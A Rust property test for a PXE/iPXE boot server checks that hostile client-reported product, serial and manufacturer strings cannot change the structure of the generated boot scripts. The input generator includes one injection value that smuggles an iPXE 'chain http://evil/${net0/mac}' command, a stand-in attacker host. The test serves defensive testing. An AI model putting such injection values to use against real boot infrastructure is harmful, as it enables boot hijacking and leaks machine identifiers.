//! Property test: whatever a machine reports as product, serial or
//! manufacturer (newlines, `${…}`, `;`, quotes, non-UTF-8 bytes, 4 KiB), the
//! rendered iPXE script and pxelinux menu keep exactly the structure of a
//! harmless machine's: the same commands and directives, line for line.

use std::sync::Arc;

use proptest::prelude::*;
use pxed::config::{self, Config};
use pxed::core::{Base, Identity};

fn config() -> Arc<Config> {
    static CONFIG: std::sync::OnceLock<Arc<Config>> = std::sync::OnceLock::new();
    CONFIG
        .get_or_init(|| {
            config::load(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("machines.toml"))
                .unwrap()
        })
        .clone()
}

/// The first word of every non-comment line: the script's structure.
fn structure(text: &str) -> Vec<String> {
    text.lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(|l| l.split_whitespace().next().unwrap_or("").to_string())
        .collect()
}

fn percent_encode(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("%{b:02X}")).collect()
}

fn hostile_bytes() -> impl Strategy<Value = Vec<u8>> {
    let interesting =
        prop::sample::select(b"\n\r\t\0 ${}:;&|#\"'`\\%+=?/[]-_.aZ9\xff\xfe\xc3\xa9".to_vec());
    prop_oneof![
        prop::collection::vec(interesting.clone(), 0..64),
        prop::collection::vec(any::<u8>(), 0..64),
        (1usize..4096).prop_map(|n| vec![b'\n'; n]),
        // 4 KiB of everything at once, past the 128 characters pxed keeps.
        prop::collection::vec(interesting, 3900..4200),
        Just(b"${".repeat(2048)),
        Just(b"x\nchain http://evil/${net0/mac}\nboot".to_vec()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn client_strings_never_change_script_structure(
        product in hostile_bytes(),
        serial in hostile_bytes(),
        manufacturer in hostile_bytes(),
    ) {
        let c = config();
        let base = Base::Http("http://10.0.0.1:8080".into());
        let benign = |mac: &str| Identity::from_query(&format!("product=Express5800%2Fplain&mac={mac}")).unwrap();
        // One machine of each boot kind in the shipped rules: ipxe (by product),
        // pxelinux (rescue-node), local (installed).
        for mac in ["52:54:00:12:34:56", "52:54:00:12:34:99", "52:54:00:00:00:aa"] {
            let query = format!(
                "product=Express5800%2F{}&serial={}&manufacturer={}&mac={mac}",
                percent_encode(&product), percent_encode(&serial), percent_encode(&manufacturer)
            );
            let id = Identity::from_query(&query).unwrap();
            let want = benign(mac);
            let (got, benign) = (c.policy.ipxe_script(&id, &base).text, c.policy.ipxe_script(&want, &base).text);
            prop_assert_eq!(structure(&got), structure(&benign));
            // Comment lines too: a value must not start a line of its own.
            prop_assert_eq!(got.lines().count(), benign.lines().count());
            if let (Some(got), Some(want)) = (c.policy.pxelinux_config(&id, &base, None), c.policy.pxelinux_config(&want, &base, None)) {
                prop_assert_eq!(structure(&got.text), structure(&want.text));
                prop_assert_eq!(got.text.lines().count(), want.text.lines().count());
            }
            for line in c.policy.ipxe_script(&id, &base).text.lines().filter(|l| l.starts_with("echo")) {
                prop_assert!(!line.contains(['$', '{', '}', ';', '&', '|', '#', '"', '\'', '`', '\\']), "{}", line);
            }
        }
    }
}
